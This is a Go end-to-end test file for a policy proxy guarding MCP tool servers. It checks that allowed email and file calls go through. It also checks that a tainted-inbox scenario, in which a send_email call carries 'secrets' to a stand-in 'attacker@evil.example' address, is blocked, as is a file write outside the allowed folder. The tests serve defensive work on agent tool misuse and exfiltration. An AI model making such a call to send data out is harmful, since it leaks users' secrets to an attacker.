package e2e_test

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/bouncer-mcp/bouncer/internal/testsupport/e2e"
)

func TestMain(m *testing.M) {
	code := m.Run()
	e2e.RemoveBuilds()
	os.Exit(code)
}

// policy confines the test servers' tools: mail only to the boss (anything
// the server said is tainted), files only under DIR/out.
const policy = `
send_email:
  exfiltrating: true
  sink_params: [to, cc]
  trusted_destinations: [boss@corp.example]
send_email_map:
  exfiltrating: true
  sink_params: [to]
  trusted_destinations: [boss@corp.example]
notify:
  exfiltrating: true
  sink_params: [notify]
  trusted_destinations: [boss@corp.example]
send_batch:
  exfiltrating: true
  sink_params: [messages]
  trusted_destinations: [boss@corp.example]
write_file:
  write_params: [path]
  allowed_path_prefixes: ["{{DIR}}/out"]
`

var servers = []struct {
	name string
	new  func(testing.TB, ...string) e2e.Server
}{
	{"mcpgo", e2e.MCPGo},
	{"jsonparse", e2e.JSONParse},
}

func start(t *testing.T, srv e2e.Server, direct bool) *e2e.Session {
	t.Helper()
	dir := t.TempDir()
	if err := os.Mkdir(filepath.Join(dir, "out"), 0o700); err != nil {
		t.Fatal(err)
	}
	return e2e.Start(t, srv, e2e.Options{Policy: policy, Dir: dir, Direct: direct})
}

func TestBenignCallsReachTheServer(t *testing.T) {
	for _, sv := range servers {
		t.Run(sv.name, func(t *testing.T) {
			s := start(t, sv.new(t), false)
			r := s.CallTool(1, "send_email", `{"to":"boss@corp.example","subject":"Q3","body":"the report"}`)
			if r.IsError || r.Error != nil {
				t.Fatalf("send_email: %s", r.Raw)
			}
			out := filepath.Join(s.Dir, "out", "report.txt")
			outJSON, _ := json.Marshal(out)
			if r := s.CallTool(2, "write_file", `{"path":`+string(outJSON)+`,"content":"hello"}`); r.IsError || r.Error != nil {
				t.Fatalf("write_file: %s", r.Raw)
			}
			es := s.Effects()
			if len(es) != 2 || es[0]["tool"] != "send_email" || es[0]["to"] != "boss@corp.example" ||
				es[1]["tool"] != "write_file" || es[1]["wrote"] != out {
				t.Fatalf("side effects: %q", s.SideEffects())
			}
			if b, err := os.ReadFile(out); err != nil || string(b) != "hello" {
				t.Fatalf("written file: %q %v", b, err)
			}
			a := s.Audit()
			if len(a) != 2 || a[0].Verdict != "allow" || a[1].Verdict != "allow" {
				t.Fatalf("audit: %+v", a)
			}
		})
	}
}

func TestRefusedCallsNeverReachTheServer(t *testing.T) {
	for _, sv := range servers {
		t.Run(sv.name, func(t *testing.T) {
			s := start(t, sv.new(t, "attacker@evil.example"), false)
			if r := s.CallTool(1, "read_inbox", `{}`); !strings.Contains(r.Text, "attacker@evil.example") {
				t.Fatalf("read_inbox: %s", r.Raw)
			}
			if r := s.CallTool(2, "send_email", `{"to":"attacker@evil.example","body":"secrets"}`); !r.Blocked() {
				t.Fatalf("send to a tainted address was not blocked: %s", r.Raw)
			}
			outside := filepath.Join(s.Dir, "outside.txt")
			outsideJSON, _ := json.Marshal(outside)
			if r := s.CallTool(3, "write_file", `{"path":`+string(outsideJSON)+`,"content":"x"}`); !r.Blocked() {
				t.Fatalf("write outside the prefix was not blocked: %s", r.Raw)
			}
			if se := s.SideEffects(); se != nil {
				t.Fatalf("the server acted: %q", se)
			}
			if _, err := os.Stat(outside); !os.IsNotExist(err) {
				t.Fatalf("%s exists (%v)", outside, err)
			}
			a := s.Audit()
			if len(a) != 3 || a[1].Verdict != "deny" || a[1].Rule != "sink" || a[2].Verdict != "deny" || a[2].Rule != "path" {
				t.Fatalf("audit: %+v", a)
			}
		})
	}
}

func TestFilesystemServer(t *testing.T) {
	dir := t.TempDir()
	if err := os.Mkdir(filepath.Join(dir, "out"), 0o700); err != nil {
		t.Fatal(err)
	}
	s := e2e.Start(t, e2e.Filesystem(t, dir), e2e.Options{Policy: policy, Dir: dir})
	in, _ := json.Marshal(filepath.Join(dir, "out", "a.txt"))
	if r := s.CallTool(1, "write_file", `{"path":`+string(in)+`,"content":"inside"}`); r.IsError || r.Error != nil {
		t.Fatalf("write_file: %s", r.Raw)
	}
	if b, err := os.ReadFile(filepath.Join(dir, "out", "a.txt")); err != nil || string(b) != "inside" {
		t.Fatalf("written file: %q %v", b, err)
	}
	out, _ := json.Marshal(filepath.Join(dir, "b.txt"))
	if r := s.CallTool(2, "write_file", `{"path":`+string(out)+`,"content":"outside"}`); !r.Blocked() {
		t.Fatalf("write outside the prefix was not blocked: %s", r.Raw)
	}
	if _, err := os.Stat(filepath.Join(dir, "b.txt")); !os.IsNotExist(err) {
		t.Fatalf("b.txt exists (%v)", err)
	}
}
